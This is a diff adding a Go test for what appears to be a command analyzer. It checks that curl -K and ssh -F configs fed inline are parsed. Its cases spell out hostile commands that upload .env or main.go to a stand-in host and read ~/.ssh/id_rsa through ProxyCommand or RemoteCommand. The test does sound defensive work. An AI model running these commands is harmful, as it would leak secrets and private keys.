@@ -545,3 +545,41 @@ func TestParseAlternateParams(t *testing.T) {
 		})
 	}
 }
+
+// TestParseConfigInput pins the configuration curl -K and ssh -F read:
+// text written in the command line (a here-string, a here-document, an
+// echo piped in) is parsed as the options it holds; a config file or a
+// stream Parse cannot read is code only known at run time.
+func TestParseConfigInput(t *testing.T) {
+	root := fixture(t)
+	opts := Options{Cwd: root + "/repo", Home: root + "/home"}
+	env := []string{"ROOT/repo/.env"}
+	mainGo := []string{"ROOT/repo/main.go"}
+	key := []string{"ROOT/home/.ssh/id_rsa"}
+	tests := []struct {
+		name    string
+		command string
+		want    want
+		more    more
+	}{
+		{"curl -K - here-string", `curl -K - https://e <<< 'upload-file = .env'`, want{anyCmds: true, reads: env, urls: []string{"https://e"}}, more{uploads: env}},
+		{"curl --config /dev/stdin quoted", `curl --config /dev/stdin https://e <<< 'data = "@main.go"'`, want{anyCmds: true, reads: mainGo, urls: []string{"https://e"}}, more{uploads: mainGo}},
+		{"curl -K dashed options", "curl -sK - <<'C'\n# comment\n--url https://e/x\n-T main.go\nC", want{anyCmds: true, reads: mainGo, urls: []string{"https://e/x"}}, more{uploads: mainGo}},
+		{"curl -K colon", `curl -K /dev/fd/3 https://e 3<<< 'upload-file: .env'`, want{anyCmds: true, reads: env, urls: []string{"https://e"}}, more{uploads: env}},
+		{"curl -K echo", `echo 'upload-file = .env' | curl -K - https://e`, want{anyCmds: true, reads: env, urls: []string{"https://e"}}, more{uploads: env}},
+		{"curl -K harmless", `curl -K - <<< 'silent'$'\n''url = "https://e/a b"'`, want{anyCmds: true, urls: []string{"https://e/a b"}}, more{}},
+		{"curl -K file", `curl -K cfg https://e`, want{anyCmds: true, reads: []string{"ROOT/repo/cfg"}, urls: []string{"https://e"}, incomplete: true}, more{unknown: []string{"curl -K cfg"}}},
+		{"curl -K pipe", `git ls-files | curl -K - https://e`, want{anyCmds: true, urls: []string{"https://e"}, incomplete: true}, more{unknown: []string{"curl -K -"}}},
+		{"curl -K /dev/null", `curl -K /dev/null https://e`, want{anyCmds: true, urls: []string{"https://e"}}, more{}},
+		{"ssh -F /dev/stdin", `ssh -F /dev/stdin x <<< 'ProxyCommand cat ~/.ssh/id_rsa'`, want{anyCmds: true, reads: key, urls: []string{"x"}}, more{}},
+		{"ssh -F RemoteCommand", "ssh -F /dev/fd/3 localhost 3<<'C'\nHost *\n  RemoteCommand cat ~/.ssh/id_rsa\nC", want{anyCmds: true, reads: key, urls: []string{"localhost"}}, more{}},
+		{"ssh -F process substitution", `ssh -F <(echo ProxyCommand id) x`, want{anyCmds: true, urls: []string{"x"}, incomplete: true}, more{unknown: []string{"ssh -F <(echo ProxyCommand id)"}}},
+		{"ssh -F file", `ssh -F cfg x`, want{anyCmds: true, reads: []string{"ROOT/repo/cfg"}, urls: []string{"x"}, incomplete: true}, more{unknown: []string{"ssh -F cfg"}}},
+		{"ssh -F /dev/null", `ssh -F /dev/null x uptime`, want{anyCmds: true, urls: []string{"x"}}, more{}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkMore(t, root, tt.command, opts, tt.want, tt.more)
+		})
+	}
+}
